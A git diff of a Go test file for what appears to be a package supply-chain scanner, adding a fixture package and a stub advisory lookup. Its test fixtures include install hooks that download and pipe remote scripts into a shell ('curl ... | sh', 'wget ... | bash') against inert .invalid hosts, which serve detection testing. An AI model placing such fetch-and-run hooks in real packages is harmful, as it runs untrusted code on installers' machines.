@@ -17,6 +17,7 @@ import (
 	"github.com/lockwarden/lockwarden/analyzer"
 	"github.com/lockwarden/lockwarden/analyzer/archive"
 	"github.com/lockwarden/lockwarden/analyzer/issue"
+	"github.com/lockwarden/lockwarden/analyzer/vulnerability"
 	"github.com/lockwarden/lockwarden/app"
 	"github.com/lockwarden/lockwarden/app/github"
 	"github.com/lockwarden/lockwarden/app/github/githubtest"
@@ -30,10 +31,11 @@ func TestMain(m *testing.M) { storetest.Main(m) }
 // packages are what the stories install: small, written for the tests, inert by
 // construction (hosts end in .invalid), and analyzed by the real engine.
 var packages = map[string]map[string]string{
-	"quiet":   {"index.js": "module.exports = s => s.trim()\n"},
-	"scripts": {"package.json": `{"name":"scripts","version":"VERSION","scripts":{"postinstall":"node setup.js"}}`, "setup.js": "console.log('hello')\n"},
-	"shell":   {"package.json": `{"name":"shell","version":"VERSION","scripts":{"postinstall":"curl https://get.shell.invalid/i.sh | sh"}}`},
-	"other":   {"package.json": `{"name":"other","version":"VERSION","scripts":{"preinstall":"wget -qO- https://get.other.invalid/i.sh | bash"}}`},
+	"vulnerable": {"index.js": "module.exports = 1\n"},
+	"quiet":      {"index.js": "module.exports = s => s.trim()\n"},
+	"scripts":    {"package.json": `{"name":"scripts","version":"VERSION","scripts":{"postinstall":"node setup.js"}}`, "setup.js": "console.log('hello')\n"},
+	"shell":      {"package.json": `{"name":"shell","version":"VERSION","scripts":{"postinstall":"curl https://get.shell.invalid/i.sh | sh"}}`},
+	"other":      {"package.json": `{"name":"other","version":"VERSION","scripts":{"preinstall":"wget -qO- https://get.other.invalid/i.sh | bash"}}`},
 }
 
 // scanner analyzes the packages above in this process.
@@ -75,6 +77,17 @@ func (s *scanner) Scan(ctx context.Context, subject analyzer.Subject) (analyzer.
 
 func (s *scanner) Metadata(context.Context, string, string) (issue.Metadata, error) {
 	return issue.Metadata{}, nil
+}
+
+// advisories cover the versions 1 of "vulnerable".
+func (s *scanner) Advisories(_ context.Context, packages []vulnerability.Package) ([][]vulnerability.Advisory, bool, error) {
+	out := make([][]vulnerability.Advisory, len(packages))
+	for i, p := range packages {
+		if p.Name == "vulnerable" && strings.HasPrefix(p.Version, "1.") {
+			out[i] = []vulnerability.Advisory{{ID: "GHSA-xxxx", Summary: "Command injection", Severity: "high", Fixed: []string{"2.0.0"}}}
+		}
+	}
+	return out, true, nil
 }
 
 func (s *scanner) ConfiguredHost(host string) bool { return host == "registry.example" }
